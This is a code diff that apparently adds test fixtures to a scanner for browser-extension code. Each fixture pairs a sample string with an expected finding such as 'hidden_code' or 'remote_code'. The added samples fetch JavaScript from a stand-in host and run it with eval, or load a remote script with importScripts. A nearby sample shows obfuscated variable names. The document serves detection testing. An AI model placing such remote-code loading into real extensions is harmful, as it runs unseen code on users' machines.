@@ -156,6 +156,21 @@ FOR_A_PERSON = {
         ),
         ("F3", "hidden_code"),
     ),
+    "a reply that is run": (
+        extension(2, content="fetch('https://x.example/a').then((r) => r.text()).then(eval);"),
+        ("F3", "hidden_code"),
+    ),
+    "a reply that is run by name": (
+        extension(
+            3,
+            background="fetch('https://x.example/a').then((r) => r.text()).then((t) => eval(t));",
+        ),
+        ("F3", "hidden_code"),
+    ),
+    "background's own script from a server": (
+        extension(3, background="importScripts('https://x.example/a.js');"),
+        ("F3", "remote_code"),
+    ),
     "made-up names": (
         extension(
             2, background="var _0x1a2b=1,_0x2c3d=2,_0x3e4f=3,_0x4a5b=_0x1a2b(_0x2c3d,_0x3e4f);"
